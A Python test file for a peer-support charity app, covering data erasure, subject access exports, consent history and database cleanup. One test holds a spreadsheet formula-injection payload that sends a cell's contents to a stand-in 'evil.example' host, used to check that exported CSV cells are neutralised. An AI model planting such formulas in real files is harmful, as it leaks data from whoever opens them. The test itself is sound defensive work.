"""Erasure: exactly one subject's data, one logged action, other families untouched, nothing on disk."""

from __future__ import annotations

import csv
import zipfile
from dataclasses import replace

import pytest
from sqlalchemy import text

from peer_support.domain.changes import Kind
from peer_support.domain.families import FamilyDraft
from peer_support.errors import ConflictError, NotFoundError, ValidationError
from peer_support.services.backups import back_up_now
from peer_support.services.families import create_family, get_family, search_families
from peer_support.services.families_export import export_families
from peer_support.services.families_volunteers import list_volunteers
from peer_support.services.fund_queries import list_applications
from peer_support.services.history import undo_action
from peer_support.services.meetings import list_meetings
from peer_support.services.packs import list_batches, list_packs, list_runs
from peer_support.services.privacy import erase_family, plan_erasure
from peer_support.services.subject_access import export_family
from peer_support.storage.tables import entity_classes

PERSON = "Lisa Baker"  # F0001's parent, who is also volunteer V001 and drove the run "Eastgate 1"
PHONES = ("07484 184287", "07387 365072")  # the family's and the volunteer's


def _totals(context) -> dict:
    """Counts per table and status, and every money column summed."""
    totals = {}
    with context.db.read() as session:
        for table, model in sorted(entity_classes().items()):
            totals[table] = session.execute(text(f'SELECT count(*) FROM "{table}" WHERE deleted = 0')).scalar()
            for column in model.__table__.columns:
                if column.name.endswith("_pence"):
                    totals[f"{table}.{column.name}"] = session.execute(
                        text(f'SELECT coalesce(sum("{column.name}"), 0) FROM "{table}" WHERE deleted = 0')).scalar()
                if column.name == "status":
                    totals[f"{table}.status"] = session.execute(
                        text(f'SELECT group_concat(s || "=" || n) FROM (SELECT status s, count(*) n FROM "{table}" '
                             f'WHERE deleted = 0 GROUP BY status ORDER BY status)')).scalar()
    return {k: v for k, v in totals.items() if not k.startswith("erasure")}


def _database_bytes(folder) -> bytes:
    return b"".join(p.read_bytes() for p in folder.glob("peer-support.sqlite3*"))


def _runs_and_packs(context) -> str:
    lines = []
    for batch in list_batches(context):
        lines += [repr(replace(run, volunteer_id=None)) for run in list_runs(context, batch.reference)]
        lines += [repr(pack) for pack in list_packs(context, batch.reference) if pack.family_reference != "F0001"]
    return "\n".join(lines)


def _other_exports(context, references, folder) -> dict[str, bytes]:
    """Each family's subject access export, without its PDF (whose metadata holds a creation time)."""
    found = {}
    folder.mkdir(exist_ok=True)  # exports never create a missing folder
    for reference in references:
        path = export_family(context, reference, folder / f"{reference}.zip").path
        with zipfile.ZipFile(path) as archive:
            found[reference] = b"".join(archive.read(n) for n in sorted(archive.namelist()) if not n.endswith(".pdf"))
    return found


def _families_on_the_volunteers_run(context) -> list[str]:
    with context.db.read() as session:
        return [row[0] for row in session.execute(text(
            "SELECT DISTINCT f.reference FROM pack p JOIN pack_run r ON r.id = p.run_id "
            "JOIN volunteer v ON v.id = r.volunteer_id JOIN family f ON f.id = p.family_id "
            "WHERE v.reference = 'V001' AND f.reference != 'F0001' ORDER BY f.reference"))]


def test_erasing_a_volunteering_parent_leaves_every_other_family_as_it_was(sample_context, tmp_path):
    context = sample_context
    neighbours = _families_on_the_volunteers_run(context)
    assert len(neighbours) >= 20
    others = neighbours[:8] + ["F0002", "F0064", "F0200"]
    exports = _other_exports(context, others, tmp_path / "before")
    export_families(context, tmp_path / "before.csv")
    runs = _runs_and_packs(context)
    meetings = repr(list_meetings(context))
    applications = repr(list_applications(context))
    totals = _totals(context)

    saved = erase_family(context, "F0001", also_volunteer=True)
    result = saved.record
    assert (result.reference, result.volunteer_reference) == ("F0001", "V001")
    assert {Kind.FAMILY, Kind.VOLUNTEER} <= saved.changes.kinds and saved.changes.rows > 0
    with pytest.raises(ConflictError, match="erasure cannot be undone"):
        undo_action(context, saved.changes.action_id)

    assert _other_exports(context, others, tmp_path / "after") == exports
    export_families(context, tmp_path / "after.csv")
    before_rows = list(csv.reader((tmp_path / "before.csv").open(encoding="utf-8-sig", newline="")))
    after_rows = list(csv.reader((tmp_path / "after.csv").open(encoding="utf-8-sig", newline="")))
    assert after_rows == [row for row in before_rows if row[0] != "F0001"] and len(after_rows) > 500
    # Runs and packs: only the volunteer's own name changed, to "[erased]".
    assert _runs_and_packs(context) == runs.replace(f"volunteer='{PERSON}'", "volunteer='[erased]'")
    assert PERSON in runs
    assert repr(list_meetings(context)) == meetings
    assert repr(list_applications(context)) == applications
    assert _totals(context) == totals
    erased = get_family(context, "F0001")
    assert (erased.name, erased.phone, erased.address, erased.archived) == ("", "", "", True)
    assert [v.name for v in list_volunteers(context, include_inactive=True) if v.reference == "V001"] == ["[erased]"]


def test_the_erased_name_is_gone_from_every_database_file(sample_context, sample_dir):
    context = sample_context
    assert PERSON.encode() in _database_bytes(sample_dir)
    erase_family(context, "F0001", also_volunteer=True)
    data = _database_bytes(sample_dir)
    for value in (PERSON, *PHONES, "171 Sweyn Road", "baker67@example.org"):
        assert value.encode() not in data, value
    assert b"lisa baker" not in data  # the folded search column too
    with context.db.read() as session:
        history = "\n".join(str(row) for row in session.execute(text("SELECT * FROM change_log")))
        actions = "\n".join(str(row) for row in session.execute(text("SELECT * FROM action")))
        # That the changes happened is kept.
        assert session.execute(text("SELECT count(*) FROM change_log c JOIN family f ON f.id = c.entity_id "
                                    "WHERE f.reference = 'F0001'")).scalar() >= 2
    assert PERSON not in history and PERSON not in actions
    backup = back_up_now(context).path.read_bytes()
    assert PERSON.encode() not in backup


def test_the_family_alone_keeps_the_volunteer_and_every_run(sample_context):
    context = sample_context
    runs = _runs_and_packs(context)
    plan = plan_erasure(context, "F0001")
    assert (plan.volunteer_reference, plan.also_volunteer) == ("V001", False)
    assert any("V001" in line.text for line in plan.stays)
    erase_family(context, "F0001")
    assert _runs_and_packs(context) == runs
    [volunteer] = [v for v in list_volunteers(context) if v.reference == "V001"]
    assert volunteer.name == PERSON


def test_mentions_elsewhere_are_listed_for_review_and_never_rewritten(sample_context):
    context = sample_context
    note = f"Ask {PERSON.upper()} about the lift; Margate library on Tuesdays"
    other = create_family(context, FamilyDraft(name="Noor Haddad", notes=note))
    plan = plan_erasure(context, "F0001", also_volunteer=True)
    assert [m.record_id for m in plan.mentions] == [other.id]
    assert other.reference in plan.mentions[0].where and PERSON.upper() in plan.mentions[0].excerpt
    assert any("cannot" not in line.text for line in plan.goes)
    result = erase_family(context, "F0001", also_volunteer=True).record
    assert [m.record_id for m in result.mentions] == [other.id]
    assert get_family(context, other.reference).notes == note
    # Other families' addresses that share the erased family's town are untouched.
    margate = [f for f in search_families(context, "", limit=50) if "Margate" in f.address]
    assert len(margate) > 10


def test_an_erasure_is_final(sample_context):
    context = sample_context
    erase_family(context, "F0001")
    with context.db.read() as session:
        action_id = session.execute(text("SELECT id FROM action WHERE description LIKE 'Erase%'")).scalar()
    with pytest.raises(ConflictError):
        undo_action(context, action_id)
    with pytest.raises(ValidationError):
        erase_family(context, "F0001")
    assert get_family(context, "F0001").name == ""


def test_erasing_an_unknown_family_changes_nothing(sample_context):
    with pytest.raises(NotFoundError):
        erase_family(sample_context, "F9999")
    with pytest.raises(NotFoundError):
        plan_erasure(sample_context, "F9999")


def test_receipts_are_exported_and_erased_with_the_family(sample_context, tmp_path):
    from datetime import date

    from peer_support.domain.fund import PaymentDraft, PaymentMethod
    from peer_support.services.fund import record_payment

    with sample_context.db.read() as session:
        application = session.exec(text(
            "SELECT a.reference, f.reference, a.approved_pence FROM fund_application a "
            "JOIN family f ON f.id = a.family_id WHERE a.status = 'approved' LIMIT 1")).one()
    scan = tmp_path / "receipt.pdf"
    scan.write_bytes(b"%PDF-1.4 receipt for Jane Receipt-Holder")
    record_payment(sample_context, application[0], PaymentDraft(
        paid_on=date(2026, 11, 20), amount_pence=1, method=PaymentMethod.VOUCHER,
        supplier="Margate Phones", receipt_path=str(scan)))
    receipts = list((sample_context.data_dir / "files").rglob("*.pdf"))
    assert len(receipts) == 1
    result = export_family(sample_context, application[1], tmp_path / "sar.zip")
    assert result.files == 1
    with zipfile.ZipFile(result.path) as archive:
        assert any(name.startswith("files/") and name.endswith(".pdf") for name in archive.namelist())
        payments = archive.read("csv/fund_payments.csv").decode("utf-8-sig")
        assert "Margate Phones" in payments and "£0.01" in payments
    paid_before = _totals(sample_context)
    plan = plan_erasure(sample_context, application[1])
    assert plan.files == 1
    erased = erase_family(sample_context, application[1]).record
    assert erased.files_deleted == 1 and not receipts[0].exists()
    assert _totals(sample_context) == paid_before


def test_a_subject_access_export_holds_nothing_about_other_families(sample_context, tmp_path):
    import re

    context = sample_context
    with context.db.read() as session:
        families = session.execute(text("SELECT id, reference, name, phone FROM family")).all()
        members = session.execute(text("SELECT family_id, name FROM family_member")).all()
        volunteers = session.execute(text("SELECT family_id, name FROM volunteer WHERE family_id IS NOT NULL")).all()
        busy = [row[0] for row in session.execute(text(
            "SELECT f.reference FROM family f WHERE EXISTS (SELECT 1 FROM fund_application a WHERE a.family_id = f.id) "
            "AND EXISTS (SELECT 1 FROM attendance t WHERE t.family_id = f.id) ORDER BY f.reference LIMIT 6"))]
    chosen = ["F0001", "F0022", "F0064", *busy]
    for reference in chosen:
        path = export_family(context, reference, tmp_path / f"{reference}.zip").path
        with zipfile.ZipFile(path) as archive:
            names = archive.namelist()
            assert {f"{reference}.pdf", f"{reference}.html", f"{reference}.json", "csv/details.csv"} <= set(names)
            content = "\n".join(archive.read(n).decode("utf-8-sig") for n in names if not n.endswith(".pdf"))
        [own_id] = [f[0] for f in families if f[1] == reference]
        own_names = {f[2] for f in families if f[0] == own_id} | {m[1] for m in members if m[0] == own_id} \
            | {v[1] for v in volunteers if v[0] == own_id}
        assert set(re.findall(r"\bF\d{4,}\b", content)) == {reference}
        for family_id, other, name, phone in families:
            if family_id == own_id:
                continue
            assert name in own_names or name not in content, (reference, other, name)
            assert not phone or phone not in content, (reference, other)
        # Names, not internal ids.
        assert not re.search(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-", content), reference


def test_subject_access_csv_cells_cannot_run_as_formulas(context, tmp_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    family = create_family(context, FamilyDraft(name=hostile, notes="+SUM(1,2)", phone="07700 900123"))
    path = export_family(context, family.reference, tmp_path / "sar.zip").path
    with zipfile.ZipFile(path) as archive:
        cells = [cell for name in archive.namelist() if name.endswith(".csv")
                 for row in csv.reader(archive.read(name).decode("utf-8-sig").splitlines()) for cell in row]
        page = archive.read(f"{family.reference}.html").decode("utf-8")
    assert "'" + hostile in cells and "'+SUM(1,2)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert "&lt;" not in hostile and "=HYPERLINK(&quot;" in page  # escaped in the HTML too


def test_subject_access_lists_the_consent_history(context, tmp_path):
    from datetime import date

    from peer_support.services.families import update_family

    draft = FamilyDraft(name="Ida Holm", language="da", consent_date=date(2025, 3, 1))
    family = create_family(context, draft)
    update_family(context, family.reference, replace(draft, consent_contact=True, consent_photos=True))
    path = export_family(context, family.reference, tmp_path / "sar.zip").path
    with zipfile.ZipFile(path) as archive:
        rows = list(csv.reader(archive.read("csv/consent_history.csv").decode("utf-8-sig").splitlines()))
        page = archive.read(f"{family.reference}.html").decode("utf-8")
    assert len(rows) == 3  # header, given, changed
    assert "nej → ja" in rows[2][2]  # in the family's language (Danish)
    assert 'lang="da"' in page and "Samtykkehistorik" in page


class _BusyAtFirst:
    """A DB-API connection whose first two log-emptying checkpoints answer "busy", as SQLite does
    while the background checkpointer (or a reader) holds the log; everything else is the real one."""

    def __init__(self, raw):
        self._raw = raw
        self.busy_answers = 2

    def __getattr__(self, name):
        return getattr(self._raw, name)

    @property
    def driver_connection(self):
        return self

    def execute(self, sql, *args):
        if "wal_checkpoint(TRUNCATE)" in sql and self.busy_answers:
            self.busy_answers -= 1
            return self._raw.driver_connection.execute("SELECT 1, -1, -1")
        return self._raw.driver_connection.execute(sql, *args)


def test_the_erasure_empties_the_log_when_another_checkpoint_held_it_first(sample_context, sample_dir,
                                                                             monkeypatch):
    context = sample_context
    engine = context.db.engine
    connections = []

    def raw_connection():
        connections.append(_BusyAtFirst(type(engine).raw_connection(engine)))
        return connections[-1]

    monkeypatch.setattr(engine, "raw_connection", raw_connection)
    erase_family(context, "F0001", also_volunteer=True)
    assert connections and connections[-1].busy_answers == 0  # it asked again after "busy"
    assert PERSON.encode() not in _database_bytes(sample_dir)
